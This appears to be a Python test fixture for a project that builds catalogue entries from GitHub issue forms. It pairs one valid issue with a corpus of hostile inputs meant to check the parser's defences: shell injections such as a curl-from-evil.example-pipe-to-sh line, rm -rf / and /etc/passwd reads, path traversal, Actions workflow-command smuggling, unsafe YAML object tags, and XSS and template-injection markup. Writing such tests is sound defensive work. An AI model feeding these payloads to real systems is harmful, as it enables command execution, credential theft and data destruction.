"""Issues as GitHub renders them from the form: a good one, and a corpus of those that mean harm."""

from catalogue.contribute.entries.project_index import ProjectIndex
from catalogue.schema.forms.issue_form import DESCRIPTION, LICENCE, questions

GOOD = {
    "Title": "Fair Visit",
    "Summary": "Two days on the quay.",
    "Strand": "Events",
    "Sectors": "Design",
    "Aims": "Networks",
    DESCRIPTION: "One paragraph that tells a reader what it is.",
    LICENCE: "- [X] The text is mine to give.",
}

SHELL = (
    "$(touch /tmp/pwned)",
    "`id`",
    '"; rm -rf / #',
    "'; curl https://evil.example | sh; '",
    "${{ github.token }}",
    "${IFS}&&cat$IFS/etc/passwd",
    "$GITHUB_TOKEN || env",
    "<(cat /etc/passwd)",
    "\\$(id)\\",
    "EOF\nid\nEOF",
)
PATHS = (
    "../../../etc/passwd",
    "..\\..\\windows",
    "/etc/cron.d/evil",
    "content/site.yaml",
    "C:\\evil",
    "a/../../b",
    "%2e%2e%2fevil",
    "tools/../../.github/workflows/evil.yml",
    "export-day",
    "CON",
    "\u202egnp.exe",
    "a\x00b",
)
COMMANDS = (
    "::error file=a,line=1::evil",
    "::add-mask::a",
    "::set-output name=id::evil",
    "##[error]evil",
    "%0A::error::evil",
    "x\n::stop-commands::evil\n::error::evil",
    "result=entry\nid=../../evil",
    "id<<EOF\nevil\nEOF",
    "ghadelimiter_x\nid=evil",
)
YAML = (
    "evil\n---\ndraft: true",
    "evil: [",
    "*evil",
    "&evil x",
    "!!python/object/apply:os.system [id]",
    "<<: {a: b}",
    "| \n evil",
    'x" , strand: "evil',
    "{a: b}",
    "# evil",
    "null",
    "yes",
    "2020-01-01",
    "- evil",
    "%TAG ! evil",
    "? evil",
    "\u2028aliases: [evil/]",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/pixel.png)",
    '<iframe src="https://evil.example"></iframe>',
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<style>*{display:none}</style>",
    '<form action="https://evil.example"><input></form>',
    '<p style="position:fixed" class="x" id="y">x</p>',
    "<!-- --><!--><script>alert(1)</script>-->",
    "{{ site }} {% raw %} {{ ''.__class__ }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<https://evil.example>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "]]><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
)
PINGS = (
    "@octocat",
    "@github/security please look",
    "closes #1",
    "fixes https://code.example/o/r/issues/1",
    "octocat@evil.example",
    "www.evil.example",
    "GH-1 and o/r#2",
    "``@octocat``",
    "` @octocat ` #1 `",
    "| a | b |\n|---|---|\n| @octocat | #1 |",
    "### Strand\n\nevil",
    "_No response_",
    "- [x] evil",
)
HOSTILE = (*SHELL, *PATHS, *COMMANDS, *YAML, *MARKUP, *PINGS)


def labels(index: ProjectIndex) -> list[str]:
    """The questions of a project's form."""
    return [question.label for question in questions(index.config, index.titles)]


def issue(labels: list[str], **answers: str) -> str:
    """An issue as GitHub renders it: every question with its answer or the words for none.

    The answers of the good proposal stand where `told` gives no others; in its names, `_` stands for a space.
    """
    texts = {**GOOD, **{name.replace("_", " "): answer for name, answer in answers.items()}}
    return "\n\n".join(f"### {label}\n\n{texts.get(label) or '_No response_'}" for label in labels) + "\n"
